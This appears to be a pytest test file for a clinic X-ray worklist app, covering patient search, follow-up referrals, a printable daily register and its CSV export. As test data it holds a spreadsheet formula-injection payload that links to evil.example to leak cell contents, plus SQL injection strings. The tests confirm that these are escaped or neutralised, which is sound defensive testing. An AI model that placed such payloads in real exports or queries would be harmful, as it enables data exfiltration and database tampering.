"""Issue 24, a worklist a clinic can act from: search by patient or day, the referrals
still waiting for a test result, and the day's register (A4 page and CSV)."""

from __future__ import annotations

import csv
import io
import re

import cv2
import numpy as np
import pytest
from helpers import PIN, logged_in, testdata

from appliance.config import load_config
from appliance.ingest.importer import Importer
from appliance.monitoring import outcomes
from appliance.store import patients, reviews, users
from appliance.store import worklist as queries
from appliance.store.results import insert_result
from appliance.web import create_app

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def photo(seed: int) -> bytes:
    pixels = np.random.default_rng(seed).integers(0, 255, (64, 64, 3), dtype=np.uint8)
    return cv2.imencode(".png", pixels)[1].tobytes()


def result(triage: str, score: int) -> dict:
    return {
        "route": "chest_xray",
        "population": "adult",
        "probability": score / 100,
        "score": score,
        "threshold": 0.5,
        "triage": triage,
        "model": {"name": "cxr-tb-adult", "version": "2.0.0", "sha256": "0" * 64},
        "backend": "onnxruntime",
    }


# (key, typed patient ID, name, triage, score, received at in UTC). Maputo is UTC+2:
# "late" arrived on 1 May in UTC but on 2 May at the clinic.
PHOTOS = [
    ("amina", "P-100", "Amina Banda", "urgent", 91, "2024-05-01T06:00:00.000+00:00"),
    ("evil", "P-200", EVIL_NAME, "review", 66, "2024-05-01T12:30:00.000+00:00"),
    ("late", "P-300", "João Silva", "urgent", 88, "2024-05-01T23:30:00.000+00:00"),
    ("withdrawn", "P-400", "Rosa Mabote", "review", 70, "2024-05-03T09:00:00.000+00:00"),
    ("routine", "P-500", "Ana Lopes", "routine", 12, "2024-05-03T10:00:00.000+00:00"),
]


@pytest.fixture
def clinic(tmp_path):
    config = load_config(
        tmp_path / "data", environ={}, usb_roots=[], min_free_mb=1, timezone="Africa/Maputo"
    )
    app = create_app(config)
    store = app.extensions["appliance_store"]
    importer = Importer(store, config)
    users.create_user(store, "nurse", PIN, "operator")
    doctor = users.get_user(store, users.create_user(store, "dr.banda", PIN, "clinician"))
    ids = {}
    for seed, (key, pid, name, triage, score, received) in enumerate(PHOTOS):
        image_id = importer.import_stream(
            io.BytesIO(photo(seed)), source="usb", original_name=f"IMG_{seed}.PNG"
        ).image_id
        patients.set_patient(store, image_id, pid, name, doctor)
        with store.write() as conn:
            insert_result(conn, image_id, None, result(triage, score), None)
            conn.execute("UPDATE images SET received_at = ? WHERE id = ?", (received, image_id))
            conn.execute(
                "UPDATE worklist_items SET received_at = ? WHERE image_id = ?", (received, image_id)
            )
        ids[key] = image_id
    # An X-ray that came with its patient (CompressedSamples^CT1, ID 1CT1), arrived today.
    ids["ct"] = importer.import_path(testdata("CT_small.dcm"), source="dicom").image_id
    with store.write() as conn:
        insert_result(conn, ids["ct"], None, result("urgent", 95), None)
    reviews.add_review(
        store, image_id=ids["amina"], user=doctor, verdict="agree", reasons=[], note=""
    )

    def outcome(key: str, value: str) -> None:
        outcomes.add_outcome(
            store, image_id=ids[key], user=doctor, test="xpert", result=value,
            tested_on="2024-05-04",
        )

    outcome("late", "positive")  # confirmed: off the follow-up list
    outcome("withdrawn", "negative")
    outcome("withdrawn", "withdrawn")  # entered in error: still to follow up
    outcome("evil", "indeterminate")  # test again: still to follow up
    yield app, ids
    store.close()


def patient_ids(html: str) -> list[str]:
    """The patient IDs of the worklist's rows, in order."""
    return re.findall(r'<td><a class="cell person"[^>]*><strong>([^<]+)</strong>', html)


def test_search_by_part_of_a_patient_id_typed_or_received_any_case(clinic):
    app, ids = clinic
    client = logged_in(app, "nurse")
    assert patient_ids(client.get("/?q=p-1").text) == ["P-100"]
    assert patient_ids(client.get("/?q=  1ct ").text) == ["1CT1"]
    assert sorted(patient_ids(client.get("/?q=P-").text)) == [
        "P-100", "P-200", "P-300", "P-400", "P-500"
    ]


def test_search_by_part_of_a_name_a_dicom_name_read_with_spaces(clinic):
    app, ids = clinic
    client = logged_in(app, "nurse")
    assert patient_ids(client.get("/?q=AMINA").text) == ["P-100"]
    assert patient_ids(client.get("/?q=mabote").text) == ["P-400"]
    assert patient_ids(client.get("/?q=compressedsamples ct1").text) == ["1CT1"]


def test_what_is_typed_is_text_never_sql_and_is_bounded(clinic):
    app, ids = clinic
    client = logged_in(app, "nurse")
    for text in ("%", "_", "' OR 1=1 --", '") OR ("1"="1'):
        page = client.get("/", query_string={"q": text})
        assert page.status_code == 200
        assert patient_ids(page.text) == [] and "No image matches this search." in page.text
    page = client.get("/", query_string={"q": "P" * 500})
    assert page.status_code == 200
    [typed] = re.findall(r'<input type="search" name="q" value="([^"]*)"', page.text)
    assert typed == "P" * 64
    assert 'maxlength="64"' in page.text


def test_search_by_the_day_the_image_arrived_in_the_clinics_time_zone(clinic):
    app, ids = clinic
    client = logged_in(app, "nurse")
    assert sorted(patient_ids(client.get("/?day=2024-05-01").text)) == ["P-100", "P-200"]
    assert patient_ids(client.get("/?day=2024-05-02").text) == ["P-300"]  # 01:30 in Maputo
    assert patient_ids(client.get("/?day=2024-05-01&q=amina").text) == ["P-100"]
    bad = client.get("/?day=1st of May")
    assert bad.status_code == 200 and "Choose the date with the calendar" in bad.text
    assert len(patient_ids(bad.text)) == 6  # the search is dropped, not guessed


def test_a_search_is_kept_on_every_tab_and_page(clinic, monkeypatch):
    app, ids = clinic
    client = logged_in(app, "nurse")
    page = client.get("/?q=p-&day=2024-05-01").text
    tabs = re.findall(r'<a class="tab[^"]*" href="([^"]+)"', page)
    assert len(tabs) == 5 and all("q=p-" in t and "day=2024-05-01" in t for t in tabs)
    monkeypatch.setattr(queries, "PAGE_SIZE", 1)
    first = client.get("/?q=p-&day=2024-05-01").text
    [next_href] = re.findall(r'<a class="button secondary" href="([^"]+)">Next</a>', first)
    assert "q=p-" in next_href and "day=2024-05-01" in next_href and "page=2" in next_href
    second = client.get(next_href.replace("&amp;", "&")).text
    # The review waiting first, the reviewed urgent one after it (the usual order).
    assert patient_ids(first) + patient_ids(second) == ["P-200", "P-100"]
    assert "Page 2 of 2" in second


def test_referrals_to_follow_up_are_flagged_results_without_a_test_result_oldest_first(
    clinic,
):
    app, ids = clinic
    client = logged_in(app, "nurse")
    page = client.get("/?filter=follow_up").text
    # P-300 has its positive Xpert; P-500 was routine. A withdrawn or indeterminate test
    # result keeps the referral; a clinician's review (P-100) does not take it off.
    assert patient_ids(page) == ["P-100", "P-200", "P-400", "1CT1"]
    assert "Referrals to follow up" in page
    assert patient_ids(client.get("/?filter=follow_up&q=rosa").text) == ["P-400"]


def test_the_daily_register_lists_the_clinics_day_and_is_linked_from_the_worklist(clinic):
    app, ids = clinic
    client = logged_in(app, "nurse")
    assert 'href="/register"' in client.get("/").text
    page = client.get("/register?day=2024-05-01")
    assert page.status_code == 200
    rows = re.findall(r"<tr>\s*<td>(.*?)</tr>", page.text, re.S)
    assert len(rows) == 2  # P-300 arrived on 2 May at the clinic
    amina, evil = rows
    assert "08:00" in amina and "P-100" in amina and "Amina Banda" in amina
    assert "dr.banda · agreed" in amina and "urgent" in amina and "91" in amina
    assert "14:30" in evil and "Sputum Xpert MTB/RIF: indeterminate" in evil
    assert "=HYPERLINK(&#34;" in evil or "=HYPERLINK(&quot;" in evil  # escaped HTML
    assert 'href="/register.csv?day=2024-05-01"' in page.text
    assert "css/worklist.css" in page.text and 'id="print"' in page.text
    today = client.get("/register").text  # today, at the clinic: the X-ray
    assert "1CT1" in today and "P-100" not in today


def test_the_register_prints_without_the_top_bar_and_controls(clinic):
    app, ids = clinic
    with logged_in(app, "nurse").get("/static/css/worklist.css") as response:
        css = response.text
    printing = css[css.index("@media print") :]
    assert ".topbar, .noprint { display: none" in printing
    assert "size: A4" in css
    page = logged_in(app, "nurse").get("/register?day=2024-05-01").text
    assert '<div class="toolbar noprint">' in page


def test_the_register_csv_neutralises_formulas_and_reads_in_a_spreadsheet(clinic):
    app, ids = clinic
    client = logged_in(app, "nurse")
    response = client.get("/register.csv?day=2024-05-01")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert 'filename="register-2024-05-01.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r["patient_id"] for r in rows] == ["P-100", "P-200"]
    amina, evil = rows
    assert amina == {
        "time": "2024-05-01 08:00",
        "patient_id": "P-100",
        "patient_name": "Amina Banda",
        "screened": "chest_xray adult",
        "score": "91",
        "triage": "urgent",
        "reviewed_by": "dr.banda",
        "verdict": "agree",
        "outcome": "",
        "image_id": str(ids["amina"]),
    }
    assert evil["patient_name"] == "'" + EVIL_NAME
    assert evil["outcome"] == "xpert: indeterminate"
    assert client.get("/register.csv?day=May").status_code == 400


def test_the_register_and_its_csv_need_a_login(clinic):
    app, ids = clinic
    anonymous = app.test_client()
    for url in ("/register", "/register.csv?day=2024-05-01", "/?q=amina"):
        response = anonymous.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.slow
def test_the_register_prints_on_one_a4_sheet_without_the_top_bar(clinic):
    """Real Chromium: the print stylesheet hides the top bar and the controls, and the
    paper is A4 (210 x 297 mm), whatever the browser's default."""
    import threading
    from pathlib import Path

    from werkzeug.serving import make_server

    chromium = Path("/usr/bin/chromium")
    if not chromium.exists():
        pytest.skip(f"{chromium} is missing (apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    app, ids = clinic
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{server.server_port}"
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(
                executable_path=str(chromium), headless=True, args=["--no-sandbox", "--disable-gpu"]
            )
            page = browser.new_page(viewport={"width": 800, "height": 480})
            page.goto(base + "/login")
            page.fill("input[name=username]", "nurse")
            page.fill("input[name=pin]", PIN)
            page.click("form button")
            page.goto(base + "/register?day=2024-05-01")
            assert page.locator("header.topbar").is_visible()
            page.emulate_media(media="print")
            assert not page.locator("header.topbar").is_visible()
            assert not page.locator(".toolbar.noprint").is_visible()
            assert page.locator("table.register tbody tr").count() == 2
            pdf = page.pdf(prefer_css_page_size=True)
            browser.close()
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    sizes = re.findall(rb"/MediaBox\s*\[\s*0\s+0\s+([\d.]+)\s+([\d.]+)\s*\]", pdf)
    assert [(round(float(w) / 72 * 25.4), round(float(h) / 72 * 25.4)) for w, h in sizes] == [
        (210, 297)
    ]
